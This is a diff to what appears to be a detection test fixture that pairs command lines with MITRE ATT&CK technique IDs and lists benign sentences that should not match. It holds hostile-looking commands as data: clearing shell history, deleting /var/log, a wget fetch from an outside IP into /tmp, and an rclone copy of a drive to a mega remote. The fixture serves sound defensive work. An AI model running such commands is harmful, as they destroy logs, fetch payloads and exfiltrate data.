@@ -64,6 +64,11 @@ SHOWN = [
     ("history -c", "T1070.003"),
     ("systemctl enable x.service", "T1543.002"),
     ("rm -rf /var/log", "T1070.004"),
+    ("net share", "T1135"),
+    ("net time /domain", "T1124"),
+    ("query user", "T1033"),
+    ("wget -q -O /tmp/x hxxp://192.0.2.1/x", "T1105"),
+    ("rar a out.rar docs", "T1560.001"),
     ("rclone copy -P Z: mega:x", "T1567.002"),
 ]
 NOT_SHOWN = [
@@ -71,6 +76,11 @@ NOT_SHOWN = [
     "The actor used Rclone and PsExec, as others did before.",
     "At noon the route to the host changed; the history of net use in the region is long.",
     "The reg and sc tools are part of Windows.",
+    "Its net share of the market grew, the net time to detect fell, a net view is better.",
+    "The site lets one query user accounts; see the report of curl, at https://example.org/curl.",
+    "Indicators | IP Addr",
+    "Certutil is a program of Windows: https://example.org/certutil",
+    "They sent a rar a day.",
     "We query users and find that cat pictures help.",
     "It drops a copy of schtasks in a folder of its own.",
     "",
